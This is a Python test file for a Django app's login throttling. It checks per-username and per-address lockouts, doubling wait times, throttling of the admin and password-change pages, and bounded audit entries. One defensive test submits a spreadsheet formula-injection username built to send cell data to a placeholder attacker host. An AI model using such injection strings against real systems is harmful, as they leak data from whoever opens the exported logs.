"""Failed logins back off per username and per address, and leave bounded audit entries (issue 11, finding 8)."""

import pytest
from django.urls import reverse

from policy import throttle
from policy.models import AuditEntry
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db
LOGIN = reverse("login")


@pytest.fixture
def clock(monkeypatch):
    """A clock that only moves when the test says so."""

    class Clock:
        now = 1_000_000.0

        def advance(self, seconds):
            self.now += seconds

    fake = Clock()
    monkeypatch.setattr(throttle, "_now", lambda: fake.now)
    return fake


WRONG = "not the password"


def attempt(client, username, password=WRONG, address="198.51.100.7", url=LOGIN):
    return client.post(url, {"username": username, "password": password}, REMOTE_ADDR=address)


def failed_logins():
    return AuditEntry.objects.filter(action="login_failed").count()


def test_thirty_wrong_passwords_are_throttled_and_write_bounded_entries(client, editor, clock):
    statuses = [attempt(client, "erin").status_code for _ in range(30)]
    assert statuses == [200] * 5 + [429] * 25
    response = attempt(client, "erin")
    body = response.content.decode()
    assert "Too many failed logins for this account or from your address. Wait 15 seconds" in body
    assert response["Retry-After"] == "15"
    # While locked out no password is checked, so nothing more is recorded.
    assert failed_logins() == 5


def test_the_right_password_waits_out_the_lockout_then_works(client, editor, clock):
    for _ in range(5):
        attempt(client, "erin")
    assert attempt(client, "erin", PASSWORD).status_code == 429
    assert "_auth_user_id" not in client.session
    clock.advance(16)
    response = attempt(client, "erin", PASSWORD)
    assert (response.status_code, response.url) == (302, reverse("policy:dashboard"))
    assert AuditEntry.objects.filter(action="login").count() == 1
    # The success cleared the username's count: the next mistake is free again.
    client.logout()
    assert attempt(client, "erin").status_code == 200


def test_each_further_failure_doubles_the_lockout(client, editor, clock):
    waits = []
    for _ in range(5):
        attempt(client, "erin")
    for _ in range(8):
        wait = int(attempt(client, "erin")["Retry-After"])
        waits.append(wait)
        clock.advance(wait)
        assert attempt(client, "erin").status_code == 200  # one more try, which fails and doubles the wait
    assert waits == [15, 30, 60, 120, 240, 480, 900, 900]  # up to the cap of 15 minutes


def test_one_address_guessing_many_usernames_is_throttled_and_others_are_not(client, editor, clock):
    for number in range(20):
        assert attempt(client, f"user{number}").status_code == 200
    assert attempt(client, "someone-else").status_code == 429
    assert attempt(client, "erin", PASSWORD).status_code == 429
    assert attempt(client, "erin", PASSWORD, address="203.0.113.5").status_code == 302


def test_one_username_guessed_from_many_addresses_is_throttled(client, editor, clock):
    for number in range(5):
        attempt(client, "erin", address=f"192.0.2.{number}")
    assert attempt(client, "ERIN", PASSWORD, address="192.0.2.99").status_code == 429


def test_the_admin_login_is_throttled_too(client, superuser, clock):
    url = reverse("admin:login")
    for _ in range(5):
        assert attempt(client, "root", url=url).status_code == 200
    response = attempt(client, "root", PASSWORD, url=url)
    assert response.status_code == 429
    assert "Too many failed logins" in response.content.decode()


def test_failed_logins_for_unknown_users_store_no_attacker_text(client, clock):
    typed = '=HYPERLINK("http://evil.example/?"&A1)' + "x" * 500
    attempt(client, typed)
    entry = AuditEntry.objects.get(action="login_failed")
    assert entry.object_repr == "unknown user ?HYPERLINK??http???evil.example?…"  # 32 allowed characters
    assert entry.after["known"] is False
    assert entry.after["username"].startswith("sha256:")
    assert "evil" not in str(entry.after) + entry.object_id


def test_failed_logins_for_known_users_name_the_user(client, editor, clock):
    attempt(client, "erin")
    entry = AuditEntry.objects.get(action="login_failed")
    assert (entry.object_type, entry.object_id, entry.object_repr) == ("user", str(editor.pk), "erin")


def change_password(client, old, address="198.51.100.7"):
    new = "a brand new passphrase 42"
    fields = {"old_password": old, "new_password1": new, "new_password2": new}
    return client.post(reverse("password_change"), fields, REMOTE_ADDR=address)


def test_guessing_the_current_password_on_the_change_page_is_throttled(client, editor, clock):
    client.force_login(editor)
    assert [change_password(client, WRONG).status_code for _ in range(5)] == [200] * 5
    response = change_password(client, PASSWORD)
    assert response.status_code == 429
    assert response["Retry-After"] == "15"
    assert "Too many failed logins for this account" in response.content.decode()
    editor.refresh_from_db()
    assert editor.check_password(PASSWORD)  # nothing changed while locked out
    # The lock-out is the account's: the login page refuses it too, from anywhere.
    assert attempt(client, "erin", PASSWORD, address="203.0.113.5").status_code == 429
    clock.advance(16)
    assert change_password(client, PASSWORD).status_code == 302
    editor.refresh_from_db()
    assert editor.check_password("a brand new passphrase 42")
